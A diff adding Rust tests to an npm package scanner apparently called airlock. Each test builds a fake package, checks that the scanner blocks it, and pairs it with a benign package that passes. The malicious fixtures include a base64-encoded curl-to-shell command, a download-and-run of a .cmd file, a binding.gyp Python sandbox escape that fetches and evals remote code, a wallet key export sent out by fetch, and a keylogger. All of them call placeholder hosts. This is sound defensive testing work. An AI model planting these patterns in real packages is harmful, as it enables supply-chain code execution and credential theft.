@@ -1596,3 +1596,134 @@ fn daemons_command_runners_bundles_and_written_scripts() {
         report(&analysis)
     );
 }
+
+/// A command piped through a group of decoders (`( base64 -d || base64 -D )`) into
+/// a shell runs encoded text; a spawn function called by a bare name nothing in the
+/// file declares (a packer set it up) still runs the command it is given.
+#[test]
+fn encoded_commands_through_groups_and_undeclared_spawners_are_blocked() {
+    let grouped = airlock_test::PackageBuilder::new("grouped-decoder", "1.0.0")
+        .file(
+            "index.js",
+            "const { exec } = require('child_process');\nexec(`echo 'Y3VybCAtcyBodHRwOi8veC5leGFtcGxlLmludmFsaWQvcyB8IHNo' | (base64 --decode 2>/dev/null || base64 -D) | bash`, () => {});\n",
+        )
+        .build();
+    let analysis = check_blocked(&grouped, &[Code::ObfuscatedCode]);
+    assert_rule(&analysis, "shell-encoded");
+
+    let undeclared = airlock_test::PackageBuilder::new("undeclared-exec", "1.0.0")
+        .file(
+            "index.js",
+            "(async () => {\n  exec('curl -k -L -Ss https://x.example.invalid/files/k.cmd -o \"%TEMP%\\\\k.cmd\" && \"%TEMP%\\\\k.cmd\"');\n})();\n",
+        )
+        .build();
+    let analysis = check_blocked(&undeclared, &[Code::DownloadExecute]);
+    assert_rule(&analysis, "shell-fetch-and-run");
+
+    // A local function named `exec` is the file's own, not a spawner.
+    let own = airlock_test::PackageBuilder::new("own-exec", "1.0.0")
+        .file(
+            "index.js",
+            "function exec(command) { return command.length; }\nmodule.exports = exec('curl -s https://x.example.invalid/s | sh');\n",
+        )
+        .build();
+    let analysis = analyse(&own);
+    assert_eq!(
+        verdict(&analysis, &own),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// node-gyp reads `binding.gyp` at install: a condition that climbs into Python's
+/// internals to run a command is blocked, and the script it starts runs at install;
+/// the ordinary `<!(node -p …)` expansions of a native addon are not findings.
+#[test]
+fn a_binding_gyp_that_runs_python_is_blocked_and_an_ordinary_one_is_not() {
+    let escape = airlock_test::PackageBuilder::new("gyp-escape", "3.0.4")
+        .file(
+            "binding.gyp",
+            r#"{ "targets": [{ "target_name": "binding", "conditions": [["[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('node loader.js')", {}]] }] }"#,
+        )
+        .file(
+            "loader.js",
+            "require('https').get('https://x.example.invalid/p', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n",
+        )
+        .build();
+    let analysis = check_blocked(&escape, &[Code::DynamicCode]);
+    assert_message(&analysis, "binding.gyp reaches into Python's internals");
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|finding| finding.file.as_deref() == Some("loader.js")
+                && finding.reach == airlock_policy::Reach::Install),
+        "loader.js runs at install:\n{}",
+        report(&analysis)
+    );
+
+    let addon = airlock_test::PackageBuilder::new("native-addon", "1.0.0")
+        .file(
+            "binding.gyp",
+            r#"{ "targets": [{ "target_name": "addon", "sources": ["src/addon.cc"], "include_dirs": ["<!(node -p \"require('node-addon-api').include_dir\")"], "libraries": ["<!@(pkg-config --libs libsecret-1)"], "conditions": [["OS=='win'", { "defines": ["WIN"] }]] }] }"#,
+        )
+        .file("index.js", "module.exports = require('./build/Release/addon.node');\n")
+        .build();
+    let analysis = analyse(&addon);
+    assert_eq!(
+        verdict(&analysis, &addon),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// A wallet's secret handed over by its keyring (`exportSeedPhrase`,
+/// `exportAccount`) and sent out is blocked.
+#[test]
+fn a_keyring_export_sent_out_is_blocked() {
+    let package = airlock_test::PackageBuilder::new("scroll-view-helper", "1.5.5")
+        .file(
+            "index.js",
+            "const kr = engine.context.KeyringController;\n(async () => {\n  const priv = await kr.exportAccount(pwd, accounts[0]);\n  const line = 'v=1&t=pageview&dl=' + encodeURIComponent(priv);\n  fetch('https://collect.example.invalid/collect', { method: 'POST', body: line });\n})();\n",
+        )
+        .build();
+    check_blocked(&package, &[Code::DataExfiltration]);
+}
+
+/// Keys typed into a page, sent to a host written in the code, are skimmed like
+/// form fields; a library that handles keys and sends nothing is not.
+#[test]
+fn a_keylogger_is_stopped_and_a_hotkey_library_is_not() {
+    let logger = airlock_test::PackageBuilder::new("key-capture", "37.0.0")
+        .file(
+            "capture.js",
+            "function send(data) {\n  var xhr = new XMLHttpRequest();\n  xhr.open('POST', 'https://keys.collector.example.invalid/k', true);\n  xhr.send(JSON.stringify({ keystrokes: data }));\n}\ndocument.onkeyup = function (event) { send(event.key); };\n",
+        )
+        .build();
+    let analysis = analyse(&logger);
+    assert_rule(&analysis, "exfil-form-input");
+    assert!(
+        matches!(
+            verdict(&analysis, &logger),
+            Verdict::Block | Verdict::Quarantine { .. }
+        ),
+        "{}",
+        report(&analysis)
+    );
+
+    let hotkeys = airlock_test::PackageBuilder::new("hotkeys-lite", "1.0.0")
+        .file(
+            "index.js",
+            "const handlers = {};\nexport function bind(key, fn) { handlers[key] = fn; }\ndocument.addEventListener('keydown', (e) => { const fn = handlers[e.key]; if (fn) fn(e); });\n",
+        )
+        .build();
+    let analysis = analyse(&hotkeys);
+    assert_eq!(
+        verdict(&analysis, &hotkeys),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
